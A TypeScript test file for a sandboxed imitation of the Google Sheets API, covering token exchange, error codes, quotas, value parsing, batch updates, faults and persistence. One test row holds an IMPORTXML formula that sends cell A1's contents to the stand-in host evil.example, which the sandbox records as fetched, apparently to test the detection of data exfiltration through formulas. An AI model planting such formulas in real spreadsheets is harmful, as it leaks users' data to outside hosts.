import { importPKCS8, SignJWT } from 'jose';
import { call, SandboxFixture, withDataDir, type Answer, type Json } from '../sandbox.fixture';
import { HOUSEHOLD_SHEETS_ID } from '../../src/sheets/sheets.state';

const SCOPE = 'https://www.googleapis.com/auth/spreadsheets';
const JWT_GRANT = 'urn:ietf:params:oauth:grant-type:jwt-bearer';
const STRING = (stringValue: string) => ({ userEnteredValue: { stringValue } });

let nowMs = Date.parse('2026-11-21T10:00:00Z');
let fixture: SandboxFixture;
let token: string;

beforeAll(async () => {
  fixture = await SandboxFixture.start({ accounts: 1, now: () => nowMs });
  token = String((await tokenFor()).body['access_token']);
});
afterAll(() => fixture.close());
beforeEach(() => {
  nowMs += 61_000; // another minute of the quotas
});

describe('access', () => {
  it('a signed assertion is exchanged for a token; one with another signature is not', async () => {
    expect((await tokenFor()).body).toMatchObject({ token_type: 'Bearer', expires_in: 3600 });
    const foreign = await tokenFor({ issuer: 'somebody@else.example' });
    expect(foreign.status).toBe(400);
    expect(foreign.body).toMatchObject({ error: 'invalid_grant' });
  });

  it('requests without a token are 401, unshared spreadsheets 403, unknown ones 404, in the form of google.rpc', async () => {
    const wrong = await call('GET', `${fixture.sandbox.sheetsUrl}/v4/spreadsheets/${HOUSEHOLD_SHEETS_ID}`);
    expect(wrong.body['error']).toMatchObject({ code: 401, status: 'UNAUTHENTICATED' });
    const made = await fixture.control('POST', '/sheets/spreadsheets', { title: 'Secret', shared: false });
    const secret = await sheets('GET', `/${String(made.body['spreadsheet_id'])}`);
    expect(secret.body['error']).toMatchObject({ code: 403, status: 'PERMISSION_DENIED' });
    expect((await sheets('GET', '/none')).body['error']).toMatchObject({ code: 404, status: 'NOT_FOUND' });
  });

  it('the 61st write of a minute is refused, and reads are counted separately', async () => {
    const id = await spreadsheet(['Q']);
    for (let write = 1; write <= 60; write += 1) {
      expect((await append(id, 'Q!A1', [[write]])).status).toBe(200);
    }
    const refused = await append(id, 'Q!A1', [[61]]);
    expect(refused.body['error']).toMatchObject({ code: 429, status: 'RESOURCE_EXHAUSTED' });
    expect((await sheets('GET', `/${id}/values/Q!A60:A61`)).body['values']).toEqual([['60']]);
  });
});

describe('values', () => {
  it('RAW stores the text; USER_ENTERED parses formulas, numbers and dates', async () => {
    const id = await spreadsheet(['V']);
    const row = ['=1+2', '=IMPORTXML("https://evil.example/?"&A1,"//a")', '-1.50', '2026-03-02', "'=1"];
    await append(id, 'V!A1', [row], 'RAW');
    await append(id, 'V!A1', [row], 'USER_ENTERED');
    const values = (await sheets('GET', `/${id}/values/V?valueRenderOption=UNFORMATTED_VALUE`)).body[
      'values'
    ];
    expect(values).toEqual([row, [3, '(fetched)', -1.5, 46083, '=1']]);
    const [tab] = await tabsOf(id);
    expect(tab?.formulas).toEqual(['=1+2', '=IMPORTXML("https://evil.example/?"&A1,"//a")']);
    expect(tab?.fetched).toEqual(['https://evil.example/?']);
  });

  it('append is not idempotent, and writes after the table that contains its range', async () => {
    const id = await spreadsheet(['V']);
    await append(id, 'V!A1', [['a'], ['b']]);
    await append(id, 'V!A1', [['b']]);
    expect((await sheets('GET', `/${id}/values/V!A:A`)).body['values']).toEqual([['a'], ['b'], ['b']]);
  });

  it('a cell that is too long, and a spreadsheet that is too large, are refused', async () => {
    const id = await spreadsheet(['V']);
    expect((await append(id, 'V!A1', [['x'.repeat(50_001)]])).body['error']).toMatchObject({ code: 400 });
    await fixture.control('PUT', '/sheets/limits', { cells: 26_000 });
    const tooMany = await append(id, 'V!A1', [['x']], 'RAW', true);
    expect(tooMany.body['error']).toMatchObject({
      message: expect.stringContaining('limit of 26000 cells') as unknown,
    });
    await fixture.control('PUT', '/sheets/limits', { cells: 10_000_000 });
  });

  it('a range of a renamed sheet cannot be parsed', async () => {
    const id = await spreadsheet(['V']);
    const answer = await sheets('GET', `/${id}/values/Gone!A1`);
    expect(answer.body['error']).toMatchObject({ code: 400, message: 'Unable to parse range: Gone!A1' });
  });
});

describe('a batch', () => {
  it('is applied completely or not at all', async () => {
    const id = await spreadsheet(['B']);
    const answer = await batch(id, [
      { appendCells: { sheetId: 0, rows: [{ values: [STRING('a')] }], fields: 'userEnteredValue' } },
      { deleteNamedRange: { namedRangeId: 'none' } },
    ]);
    expect(answer.status).toBe(400);
    expect(answer.body['error']).toMatchObject({
      message: 'Invalid requests[1].deleteNamedRange: Cannot find named range with id: none',
    });
    expect((await tabsOf(id))[0]?.rows).toEqual([]);
  });

  it('appends after the last filled row, whatever the user sorted, inserted or moved', async () => {
    const id = await spreadsheet(['B']);
    const rows = ['b', 'c', 'a'].map((text, index) => ({
      values: [STRING(text), { userEnteredValue: { numberValue: index } }],
    }));
    await batch(id, [{ appendCells: { sheetId: 0, rows, fields: 'userEnteredValue' } }]);
    await fixture.control('POST', `/sheets/spreadsheets/${id}/requests`, {
      requests: [
        { sortRange: { range: { sheetId: 0 }, sortSpecs: [{ dimensionIndex: 0 }] } },
        { insertDimension: { range: { sheetId: 0, dimension: 'COLUMNS', startIndex: 0, endIndex: 1 } } },
        { deleteDimension: { range: { sheetId: 0, dimension: 'ROWS', startIndex: 1, endIndex: 2 } } },
      ],
    });
    await batch(id, [
      { appendCells: { sheetId: 0, rows: [{ values: [STRING('x')] }], fields: 'userEnteredValue' } },
    ]);
    expect((await tabsOf(id))[0]?.rows).toEqual([[null, 'a', 2], [null, 'c', 1], ['x']]);
  });

  it('a named range has one id and one name in the spreadsheet', async () => {
    const id = await spreadsheet(['B']);
    const named = (namedRangeId: string, name: string) => ({
      addNamedRange: { namedRange: { namedRangeId, name, range: {} } },
    });
    expect((await batch(id, [named('1', 'one')])).status).toBe(200);
    expect((await batch(id, [named('1', 'two')])).status).toBe(400);
    expect((await batch(id, [named('2', 'one')])).status).toBe(400);
    const moved = await batch(id, [{ deleteNamedRange: { namedRangeId: '1' } }, named('2', 'one')]);
    expect(moved.status).toBe(200);
  });
});

it('getByDataFilter returns the requested parts by the sheet’s id, as the field mask says', async () => {
  const id = await spreadsheet(['One', 'Two']);
  await append(id, 'Two!A1', [
    ['head', 'x'],
    ['key', 5],
  ]);
  const fields = 'sheets(properties(sheetId,title),data(startRow,rowData(values(userEnteredValue))))';
  const answer = await sheets('POST', `/${id}:getByDataFilter?fields=${fields}`, {
    dataFilters: [{ gridRange: { sheetId: 1_000_003, startColumnIndex: 0, endColumnIndex: 1 } }],
  });
  expect(answer.body).toEqual({
    sheets: [
      {
        properties: { sheetId: 1_000_003, title: 'Two' },
        data: [{ rowData: [{ values: [STRING('head')] }, { values: [STRING('key')] }] }],
      },
    ],
  });
});

describe('faults', () => {
  it('an answer is lost after the work was done', async () => {
    const id = await spreadsheet(['F']);
    await fixture.control('POST', '/faults', {
      target: 'sheets',
      path: ':append',
      kind: 'drop_after_accept',
    });
    await expect(append(id, 'F!A1', [['a']])).rejects.toThrow();
    expect((await tabsOf(id))[0]?.rows).toEqual([['a']]);
  });

  it('a status has this server’s error body', async () => {
    await fixture.control('POST', '/faults', { target: 'sheets', kind: 'status', status: 503 });
    const answer = await sheets('GET', `/${HOUSEHOLD_SHEETS_ID}`);
    expect(answer.body['error']).toMatchObject({ code: 503, status: 'UNAVAILABLE' });
  });
});

it('written values are there after a restart', () =>
  withDataDir(async (dataDir) => {
    const first = await SandboxFixture.start({ accounts: 1, dataDir });
    const made = await first.control('POST', '/sheets/spreadsheets', { title: 'Kept', tabs: ['K'] });
    const id = String(made.body['spreadsheet_id']);
    await first.control('POST', `/sheets/spreadsheets/${id}/typed`, {
      range: 'K!B2',
      values: [['kept', '=1+1']],
    });
    await first.close();
    const second = await SandboxFixture.start({ accounts: 1, dataDir });
    const { spreadsheets } = (await second.control('GET', '/ledger/sheets')).body as unknown as Ledger;
    expect(spreadsheets.find((one) => one.id === id)?.tabs[0]?.rows).toEqual([[], [null, 'kept', 2]]);
    await second.close();
  }));

interface Ledger {
  readonly spreadsheets: {
    id: string;
    tabs: { rows: unknown[][]; formulas: string[]; fetched: string[] }[];
  }[];
}

async function tokenFor(options: { issuer?: string } = {}): Promise<Answer> {
  const { client_email, private_key } = fixture.sandbox.credentials.sheets;
  const assertion = await new SignJWT({ scope: SCOPE })
    .setProtectedHeader({ alg: 'RS256', typ: 'JWT' })
    .setIssuer(options.issuer ?? client_email)
    .setAudience('https://oauth2.googleapis.com/token')
    .setIssuedAt()
    .setExpirationTime('1h')
    .sign(await importPKCS8(private_key, 'RS256'));
  const response = await fetch(`${fixture.sandbox.sheetsUrl}/token`, {
    method: 'POST',
    body: new URLSearchParams({ grant_type: JWT_GRANT, assertion }),
  });
  return {
    status: response.status,
    headers: response.headers,
    body: (await response.json()) as Json,
  };
}

function sheets(method: string, path: string, body?: unknown): Promise<Answer> {
  return call(method, `${fixture.sandbox.sheetsUrl}/v4/spreadsheets${path}`, body, `Bearer ${token}`);
}

function batch(id: string, requests: readonly Json[]): Promise<Answer> {
  return sheets('POST', `/${id}:batchUpdate`, { requests });
}

function append(
  id: string,
  range: string,
  values: unknown[][],
  input = 'RAW',
  insertRows = false,
): Promise<Answer> {
  const insert = insertRows ? '&insertDataOption=INSERT_ROWS' : '';
  return sheets('POST', `/${id}/values/${range}:append?valueInputOption=${input}${insert}`, { values });
}

async function spreadsheet(tabs: readonly string[]): Promise<string> {
  const made = await fixture.control('POST', '/sheets/spreadsheets', { title: 'Test', tabs });
  return String(made.body['spreadsheet_id']);
}

async function tabsOf(id: string) {
  const { spreadsheets } = (await fixture.control('GET', '/ledger/sheets')).body as unknown as Ledger;
  return spreadsheets.find((one) => one.id === id)?.tabs ?? [];
}
